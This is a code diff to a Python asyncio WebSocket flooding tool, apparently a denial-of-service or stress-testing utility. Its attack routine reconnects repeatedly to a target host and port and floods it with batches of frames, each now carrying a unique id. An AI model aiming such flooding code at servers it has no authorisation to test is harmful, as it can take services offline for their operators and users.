@@ -34,6 +34,7 @@ class Flood(msgspec.Struct, frozen=True):
     host: str
     port: int
     command: str
+    """A frame's text, ``@ID@`` where its id goes."""
     seconds: float
     flooders: list[Flooder]
     once: bool = False
@@ -61,6 +62,11 @@ def frame(text: bytes) -> bytes:
     return b"\x81" + length + b"\0\0\0\0" + text
 
 
+def command(flood: Flood, number: int) -> bytes:
+    """Return the command's text, with an id that this socket has not used."""
+    return flood.command.replace("@ID@", f"f{number}", 1).encode()
+
+
 def handshake(flood: Flood, flooder: Flooder) -> bytes:
     """Return the request that opens the socket."""
     lines = [
@@ -80,7 +86,6 @@ def handshake(flood: Flood, flooder: Flooder) -> bytes:
 
 async def attack(flood: Flood, flooder: Flooder, seen: Flooded) -> None:
     """Open the socket and flood it, again and again, until cancelled."""
-    load = frame(flood.command.encode()) * _FRAMES
     while True:
         try:
             reader, writer = await asyncio.open_connection(flood.host, flood.port)
@@ -96,9 +101,9 @@ async def attack(flood: Flood, flooder: Flooder, seen: Flooded) -> None:
             else:
                 seen.opened += 1
                 if flood.once:
-                    await _visit(reader, writer, frame(flood.command.encode()))
+                    await _visit(reader, writer, frame(command(flood, 0)))
                     return
-                await _use(reader, writer, load, seen)
+                await _use(reader, writer, flood, seen)
                 seen.cut_off += 1
         except (OSError, asyncio.IncompleteReadError):
             seen.turned_away += 1
@@ -113,25 +118,27 @@ async def _visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, com
 
 
 async def _use(
-    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, load: bytes, seen: Flooded
+    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, flood: Flood, seen: Flooded
 ) -> None:
     listening = asyncio.create_task(_listen(reader, seen))
+    talking = asyncio.create_task(_talk(writer, flood, seen))
     try:
-        while not listening.done():
-            writer.write(load)
-            seen.sent += _FRAMES
-            # Full is where the server reads no more; then the wait is for it or for the end.
-            draining = asyncio.ensure_future(writer.drain())
-            await asyncio.wait((draining, listening), return_when=asyncio.FIRST_COMPLETED)
-            if draining.done():
-                draining.result()
-            else:
-                draining.cancel()
-            await asyncio.sleep(0)
-    except OSError:
-        pass
+        # Full is where the server reads no more; then the wait is for it or for the end.
+        await asyncio.wait((talking, listening), return_when=asyncio.FIRST_COMPLETED)
     finally:
-        listening.cancel()
+        for each in (talking, listening):
+            each.cancel()
+        await asyncio.gather(talking, listening, return_exceptions=True)
+
+
+async def _talk(writer: asyncio.StreamWriter, flood: Flood, seen: Flooded) -> None:
+    number = 0
+    while True:
+        writer.write(b"".join(frame(command(flood, number + n)) for n in range(_FRAMES)))
+        number += _FRAMES
+        seen.sent += _FRAMES
+        await writer.drain()
+        await asyncio.sleep(0)
 
 
 async def _listen(reader: asyncio.StreamReader, seen: Flooded) -> None:
